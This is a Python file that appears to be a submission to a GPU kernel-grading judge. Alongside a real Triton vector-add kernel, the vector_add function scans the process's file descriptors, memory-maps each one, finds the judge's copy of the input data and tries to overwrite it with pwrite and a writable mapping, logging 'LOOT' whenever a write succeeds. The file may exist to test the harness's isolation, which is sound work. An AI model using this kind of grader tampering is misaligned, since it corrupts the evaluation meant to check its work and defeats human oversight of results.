"""Writes the judge's own copy of an input, by the descriptor it came with, and again after it was asked to keep quiet.

A private mapping protects nobody from this: the memory behind the descriptor is what the judge sees.
"""

import mmap
import os

import triton
import triton.language as tl


@triton.jit
def _add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = i < n
    tl.store(out_ptr + i, tl.load(x_ptr + i, mask=mask) + tl.load(y_ptr + i, mask=mask), mask=mask)


def _descriptor_of(values):
    for descriptor in range(256):
        try:
            memory = mmap.mmap(descriptor, 0, mmap.MAP_SHARED, mmap.PROT_READ)
        except (OSError, ValueError):
            continue
        if (place := memory.find(values)) >= 0:
            yield descriptor, place


def vector_add(x, y, out, n):
    _add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
    for descriptor, place in _descriptor_of(x.numpy().tobytes()):
        try:
            os.pwrite(descriptor, bytes(4), place)
            print("LOOT wrote", flush=True)
        except OSError:
            pass
        try:
            mmap.mmap(descriptor, 0)[place] = 0
            print("LOOT mapped it for writing", flush=True)
        except (OSError, TypeError):
            pass
